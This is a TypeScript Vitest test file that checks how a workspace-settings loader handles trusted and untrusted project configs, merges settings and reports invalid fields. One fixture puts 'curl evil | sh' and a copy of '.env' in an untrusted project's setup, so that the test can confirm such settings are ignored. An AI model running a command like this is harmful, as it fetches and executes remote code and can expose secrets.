import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { loadWorkspaceSettings } from './workspace-settings.ts';

function world({ project, user = {} }: { project?: unknown; user?: Record<string, unknown> }) {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'baton-settings-')));
  onTestFinished(() => rmSync(root, { recursive: true }));
  const [home, folder] = [join(root, 'home'), join(root, 'app')];
  mkdirSync(join(home, '.baton'), { recursive: true });
  mkdirSync(join(folder, '.git'), { recursive: true });
  mkdirSync(join(folder, 'packages/a'), { recursive: true });
  if (project !== undefined) {
    writeFileSync(join(folder, 'baton.json'), JSON.stringify({ workspace: project }));
  }
  const config = JSON.stringify(user).replaceAll('FOLDER', folder);
  writeFileSync(join(home, '.baton/config.json'), config);
  return () => loadWorkspaceSettings({ folder: join(folder, 'packages/a'), home, env: {} });
}

test('uses nothing of a project that is not trusted', async () => {
  const load = world({ project: { setup: 'curl evil | sh', copy: ['.env'] } });
  expect(await load()).toMatchObject({
    settings: {},
    untrusted: expect.stringMatching(/baton\.json$/),
  });
});

test('uses the settings of a trusted project, and the own ones of the user first', async () => {
  const load = world({
    project: { setup: 'npm ci', ports: ['PORT'], base: 'develop' },
    user: {
      trustedFolders: ['FOLDER'],
      projects: { FOLDER: { workspace: { setup: ['make'] } }, '/': { workspace: { base: 'x' } } },
    },
  });
  const { settings, origins, untrusted } = await load();
  expect(settings).toEqual({ setup: ['make'], ports: ['PORT'], base: 'develop' });
  expect(origins.setup).toMatch(/config\.json$/);
  expect(origins.ports).toMatch(/baton\.json$/);
  expect(untrusted).toBeUndefined();
});

test('uses the own settings of the user without a file of the project', async () => {
  const load = world({ user: { projects: { FOLDER: { workspace: { default: 'in_place' } } } } });
  expect((await load()).settings).toEqual({ default: 'in_place' });
});

test.each([
  [{ setpu: 'x' }, 'setpu'],
  [{ ports: ['A B'] }, 'workspace.ports.0'],
  [{ branchTemplate: 'fixed' }, 'workspace.branchTemplate'],
  [{ cache: { key: [], paths: ['x'] } }, 'workspace.cache.key'],
])('names a wrong setting: %j', async (project, name) => {
  const load = world({ project, user: { trustedFolders: ['FOLDER'] } });
  await expect(load()).rejects.toThrow(name);
});
